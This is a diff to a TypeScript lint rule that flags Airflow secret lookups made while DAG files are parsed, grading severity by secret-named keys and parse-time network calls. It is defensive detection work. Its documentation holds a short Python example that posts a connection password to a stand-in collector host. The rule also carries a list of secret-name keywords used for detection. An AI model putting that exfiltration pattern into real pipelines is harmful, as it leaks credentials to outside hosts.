@@ -1,5 +1,7 @@
+import type { SyntaxNode } from 'tree-sitter';
 import { defineRule } from '../../src/engine/rule';
-import { CALL_QUERY, factsOf, observe, type CallFact } from './_util';
+import { callArgs, stringValue } from '../../src/engine/python';
+import { FACT_CALL_NAMES, factsOf, observe, type CallFact } from './_util';
 
 const LOOKUPS = new Set([
   'airflow.models.Variable.get',
@@ -19,11 +21,11 @@ export default defineRule({
     name: 'secret-lookup-at-parse-time',
     category: 'malicious',
     severity: 'low',
-    message: '`{fn}` fetches a secret while the DAG file is parsed',
+    message: '`{fn}` reads {what} while the DAG file is parsed',
     aliases: ['AIR003'],
     docs: {
       what:
-        'Finds `Variable.get`, `BaseHook.get_connection` and `Connection.get_connection_from_secrets` calls that run at parse time (module level, operator arguments, default values). Low severity on its own (it is mostly a performance and exposure problem, like ruff\'s AIR003), reported once per file at the first lookup with a count of the others; high, at every lookup, when the same file also reaches the network or starts a process at parse time — the shape of credential exfiltration.',
+        'Finds `Variable.get`, `BaseHook.get_connection` and `Connection.get_connection_from_secrets` calls that run at parse time (module level, operator arguments, default values). Low severity on its own (it is mostly a performance and exposure problem, like ruff\'s AIR003: most such Variables hold configuration, not secrets), *medium* when a constant key or connection id names a secret (`db_password`, `apiToken`, `SECRET_KEY`, `gcp_credentials`, `…_api_key`; not `s3_key_prefix`). One finding per file — at the first lookup whose key names a secret, else at the first lookup — with a count of the others. The message says "reads an Airflow Variable/Connection", not that it fetches a secret; high, at every lookup, when the same file also reaches the network or starts a process at parse time — the shape of credential exfiltration.',
       why:
         'Each parse of the file (every `min_file_process_interval` seconds, in the dag-processor) performs a metadata-DB query or a secrets-backend call, and brings the decrypted secret into the parse process, where anything else at module level can read it. Combined with a parse-time network call it is exactly how a DAG leaks credentials without ever running a task.',
       example: '```python\nfrom airflow.hooks.base import BaseHook\nimport requests\n\nconn = BaseHook.get_connection("warehouse")\nrequests.post("https://collector.example", data=conn.password)\n```',
@@ -31,10 +33,10 @@ export default defineRule({
         '```python\n# Jinja templates are rendered at run time, in the task\nBashOperator(task_id="load", bash_command="load --table {{ var.value.table }}",\n             env={"PGPASSWORD": "{{ conn.warehouse.password }}"})\n```',
     },
   },
-  query: CALL_QUERY,
-  onMatch(c, ctx) {
-    const fact = observe(c.call[0], ctx);
-    if (!fact.parseTime || !fact.fn || !LOOKUPS.has(fact.fn)) return;
+  calls: [...FACT_CALL_NAMES, 'get', 'get_connection', 'get_connection_from_secrets'],
+  onCall(call, _fn, ctx) {
+    const fact = observe(call, ctx);
+    if (!fact.fn || !LOOKUPS.has(fact.fn) || !fact.parseTime) return;
     let mine = ctx.state.get('DG604') as CallFact[] | undefined;
     if (!mine) ctx.state.set('DG604', (mine = []));
     mine.push(fact);
@@ -43,23 +45,58 @@ export default defineRule({
     const mine = ctx.state.get('DG604') as CallFact[] | undefined;
     if (!mine?.length) return;
     const facts = factsOf(ctx);
-    const outbound = facts.calls.some((f) => f.parseTime && (f.kinds.has('network') || f.kinds.has('spawn')));
+    const outbound = facts.calls.some((f) => (f.kinds.has('network') || f.kinds.has('spawn')) && f.parseTime);
     if (!outbound) {
-      // On its own it is a smell: one finding per file, at the first lookup, keeps repositories readable.
+      // On its own it is a smell: one finding per file keeps repositories readable; at the first lookup whose
+      // key names a secret if there is one (medium), else at the first lookup (low).
+      let secretKey: string | null = null;
+      const secret = mine.find((f) => namesSecret((secretKey = keyOf(f.call))));
+      const at = secret ?? mine[0];
       const more = mine.length - 1;
-      ctx.report(
-        mine[0].call,
-        this.meta.message.replace('{fn}', mine[0].fn!.split('.').slice(-2).join('.')) +
-          (more ? ` (and ${more} more parse-time lookup${more > 1 ? 's' : ''} in this file)` : ''),
-        { severity: 'low' },
-      );
+      const notes = [
+        ...(secret ? [`\`${secretKey}\` names a secret`] : []),
+        ...(more ? [`and ${more} more parse-time lookup${more > 1 ? 's' : ''} in this file`] : []),
+      ];
+      ctx.report(at.call, messageFor(this.meta.message, at) + (notes.length ? ` (${notes.join('; ')})` : ''), {
+        severity: secret ? 'medium' : 'low',
+      });
       return;
     }
     for (const f of mine) {
-      const short = f.fn!.split('.').slice(-2).join('.');
-      ctx.report(f.call, this.meta.message.replace('{fn}', short) + ', and the file also reaches the network or starts a process at parse time', {
+      ctx.report(f.call, messageFor(this.meta.message, f) + ', and the file also reaches the network or starts a process at parse time', {
         severity: 'high',
       });
     }
   },
 });
+
+/** Words of a key that name a secret on their own. */
+const SECRET_WORD = /^(pass|passwd|password|passphrase|pwd|pw|secret|secrets|token|tokens|cred|creds|credential|credentials|auth|apikey|jwt|bearer|pat|dsn|fernet|privatekey)$/;
+/** `key` names a secret when it ends the name (`api_key`, `SECRET_KEY`, `ssh_key`) or follows one of these. */
+const KEY_PREFIX = /^(api|access|private|secret|ssh|signing|encryption|master|client|service|account|sas)$/;
+
+/**
+ * Does a Variable key or connection id name a secret? `db_password`, `apiToken`, `SECRET_KEY`, `gcp-credentials`,
+ * `slack_api_key_prod` — but not `tables`, `s3_key_prefix`, `monkeys`, `keyspace`.
+ */
+function namesSecret(name: string | null): boolean {
+  if (!name) return false;
+  const words = name
+    .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
+    .toLowerCase()
+    .split(/[^a-z0-9]+/)
+    .filter(Boolean);
+  return words.some(
+    (w, i) => SECRET_WORD.test(w) || /^(pass(word)?|secret|token|cred)s?\d*$/.test(w) || (w === 'key' || w === 'keys') && (i === words.length - 1 || (i > 0 && KEY_PREFIX.test(words[i - 1]))),
+  );
+}
+
+function keyOf(call: SyntaxNode): string | null {
+  const a = callArgs(call);
+  return stringValue(a.positional[0] ?? a.keywords.get('key') ?? a.keywords.get('conn_id'));
+}
+
+function messageFor(template: string, f: CallFact): string {
+  const fn = f.fn!;
+  return template.replace('{fn}', fn.split('.').slice(-2).join('.')).replace('{what}', /Variable/.test(fn) ? 'an Airflow Variable' : 'an Airflow Connection');
+}
